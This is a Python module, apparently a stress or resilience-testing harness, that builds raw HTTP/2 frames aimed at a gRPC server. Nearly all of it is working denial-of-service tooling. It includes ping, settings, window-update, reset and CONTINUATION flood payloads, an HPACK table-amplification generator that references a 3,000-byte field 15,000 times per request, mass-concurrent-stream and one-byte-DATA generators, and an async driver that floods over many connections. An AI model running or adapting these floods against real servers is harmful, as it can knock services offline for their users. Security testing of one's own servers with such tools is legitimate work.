"""Frames of HTTP/2 that cost a sender nothing, sent without end: no call comes to its end, and no answer is read."""

from __future__ import annotations

import asyncio
import struct
import time
from collections.abc import Iterator, Mapping
from contextlib import suppress
from typing import Final

_BLOCK_BYTES: Final = 1 << 18
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS = 0, 1, 2, 3, 4
_PING, _GOAWAY, _WINDOW_UPDATE, _CONTINUATION, _UNKNOWN = 6, 7, 8, 9, 0x77
_ACK: Final = 1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame as bytes."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _field(name: bytes, value: bytes) -> bytes:
    """Make a header field that no table has and that none is to keep."""
    return b"\0" + _length(name) + name + _length(value) + value


def _length(text: bytes) -> bytes:
    """Make the length of a string that is not compressed (RFC 7541, 5.1)."""
    if len(text) < 127:
        return bytes((len(text),))
    left, told = len(text) - 127, bytearray(b"\x7f")
    while left >= 128:
        told.append(left % 128 + 128)
        left //= 128
    told.append(left)
    return bytes(told)


_FIELDS: Final = {
    b":method": b"POST",
    b":scheme": b"http",
    b":path": b"/grpc.health.v1.Health/Check",
    b":authority": b"x",
    b"te": b"trailers",
    b"content-type": b"application/grpc",
}
_CALL: Final = b"".join(_field(name, value) for name, value in _FIELDS.items())
_HEAD: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0)
ACKNOWLEDGEMENT: Final = frame(_SETTINGS, _ACK, 0)
BEGINNING: Final = _HEAD + ACKNOWLEDGEMENT
"""The bytes of a connection before any call."""
_BEGUN: Final = BEGINNING + frame(_HEADERS, 4, 1, _CALL)
_MORE_FIELDS: Final = frame(_CONTINUATION, 0, 1, _field(b"a", b"b" * 120))

FLOODS: Final[Mapping[str, tuple[bytes, bytes]]] = {
    "window updates": (BEGINNING, frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "window updates of a call": (_BEGUN, frame(_WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
    "window updates of no call": (BEGINNING, frame(_WINDOW_UPDATE, 0, 99, struct.pack(">I", 1))),
    "pings": (BEGINNING, frame(_PING, 0, 0, bytes(8))),
    "answers to pings": (BEGINNING, frame(_PING, _ACK, 0, bytes(8))),
    "settings": (BEGINNING, frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))),
    "empty data": (_BEGUN, frame(_DATA, 0, 1)),
    "priorities": (_BEGUN, frame(_PRIORITY, 0, 1, struct.pack(">IB", 0, 5))),
    "resets": (_BEGUN, frame(_RST_STREAM, 0, 1, struct.pack(">I", 8))),
    "goodbyes": (BEGINNING, frame(_GOAWAY, 0, 0, struct.pack(">II", 0, 0))),
    "unknown frames": (BEGINNING, frame(_UNKNOWN, 0, 0, bytes(16_000))),
    "headers": (BEGINNING + frame(_HEADERS, 0, 1, _CALL), _MORE_FIELDS),
    "empty headers": (BEGINNING + frame(_HEADERS, 0, 1, _CALL), frame(_CONTINUATION, 0, 1)),
}
"""By name, how a connection begins, and the frame that is then repeated."""

UNACKNOWLEDGED: Final = (_HEAD + frame(_HEADERS, 0, 1, _CALL), _MORE_FIELDS)
"""The same of headers, where the settings of the server are not acknowledged, which say how long headers may be."""


CALLS_AT_ONCE: Final = 200


def refused_calls(path: bytes, *, token: bytes) -> Iterator[bytes]:
    """Make what a connection sends that has call after call, so many at once, each complete and without a request."""
    fields = _FIELDS | {b":path": path, b"authorization": b"Bearer " + token}
    block = b"".join(_field(name, value) for name, value in fields.items())
    yield BEGINNING
    for first in range(1, 1 << 30, 2 * CALLS_AT_ONCE):
        yield b"".join(frame(_HEADERS, 5, first + 2 * number, block) for number in range(CALLS_AT_ONCE))


_INDEXED, _KEPT, _FIRST_KEPT = 0x80, 0x40, 62


def whole_calls(path: bytes, *, token: bytes, message: bytes, tail: bytes = b"") -> Iterator[bytes]:
    """Make what a connection sends after its beginning that has call after call, each of few bytes and complete; `tail`
    is the payload of a reset that follows each.

    The first one has the server keep the fields of all (RFC 7541, 6.2.1), the others name these.
    """
    fields = _FIELDS | {b":path": path, b"authorization": b"Bearer " + token}
    data = struct.pack(">BI", 0, len(message)) + message
    kept = b"".join(bytes((_KEPT,)) + _field(name, value)[1:] for name, value in fields.items())
    named = bytes(_INDEXED | _FIRST_KEPT + number for number in reversed(range(len(fields))))
    for stream in range(1, 1 << 30, 2):
        call = frame(_HEADERS, 4, stream, kept if stream == 1 else named) + frame(_DATA, 1, stream, data)
        yield call + (frame(_RST_STREAM, 0, stream, tail) if tail else b"")


def fields_of_the_table(path: bytes, *, token: bytes) -> Iterator[bytes]:
    """Make what a connection sends that has one field of 3,000 bytes kept, and calls that name it 15,000 times."""
    fields = _FIELDS | {b":path": path, b"authorization": b"Bearer " + token}
    block = b"".join(_field(name, value) for name, value in fields.items())
    yield BEGINNING + frame(_HEADERS, 4, 1, block + bytes((_KEPT,)) + _field(b"a", b"b" * 3_000)[1:])
    for stream in range(3, 1 << 30, 2):
        yield frame(_HEADERS, 4, stream, block + bytes((_INDEXED | _FIRST_KEPT,)) * 15_000)


def window(count: int, *, stream: int = 0) -> bytes:
    """Make the frame that widens a window by so many bytes: of the connection, or of one call."""
    return frame(_WINDOW_UPDATE, 0, stream, struct.pack(">I", count))


def initial_windows(size: int) -> bytes:
    """Make the frame that sets the windows of all calls, those that there are included."""
    return frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, size))


def ended_calls(data: bytes) -> tuple[int, bytes]:
    """Count the calls that end in what a server sent, and return the part of a frame that is not complete."""
    ended = at = 0
    while at + 9 <= len(data):
        size = int.from_bytes(data[at : at + 3], "big")
        if at + 9 + size > len(data):
            break
        kind, flags = data[at + 3], data[at + 4]
        ended += kind == _RST_STREAM or (kind in (_DATA, _HEADERS) and flags & 1)
        at += 9 + size
    return ended, data[at:]


def message_by_the_byte(path: bytes, *, token: bytes, message_bytes: int) -> Iterator[bytes]:
    """Make what a connection sends that has one call, whose message comes in frames of one byte each."""
    fields = _FIELDS | {b":path": path, b"authorization": b"Bearer " + token}
    yield BEGINNING + frame(_HEADERS, 4, 1, b"".join(_field(name, value) for name, value in fields.items()))
    message = struct.pack(">BI", 0, message_bytes) + bytes(message_bytes)
    for at in range(0, len(message), 1000):
        yield b"".join(frame(_DATA, 0, 1, message[byte : byte + 1]) for byte in range(at, min(at + 1000, len(message))))


async def flood(
    host: str, port: int, frames: tuple[bytes, bytes], until: float, *, connections: int, source: str = "127.0.0.1"
) -> tuple[int, int]:
    """Send these frames over so many connections until that time; the bytes sent, and how often the server hung up."""
    beginning, repeated = frames
    block = repeated * (_BLOCK_BYTES // len(repeated))
    sent = ended = 0

    async def one() -> None:
        nonlocal sent, ended
        while time.monotonic() < until:
            _, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
            try:
                async with asyncio.timeout(max(0.0, until - time.monotonic())):
                    writer.write(beginning)
                    while True:
                        writer.write(block)
                        await writer.drain()
                        sent += len(block)
            except TimeoutError:
                pass
            except OSError:
                ended += 1
                await asyncio.sleep(0.01)
            finally:
                writer.transport.abort()

    with suppress(OSError):
        await asyncio.gather(*(one() for _ in range(connections)))
    return sent, ended
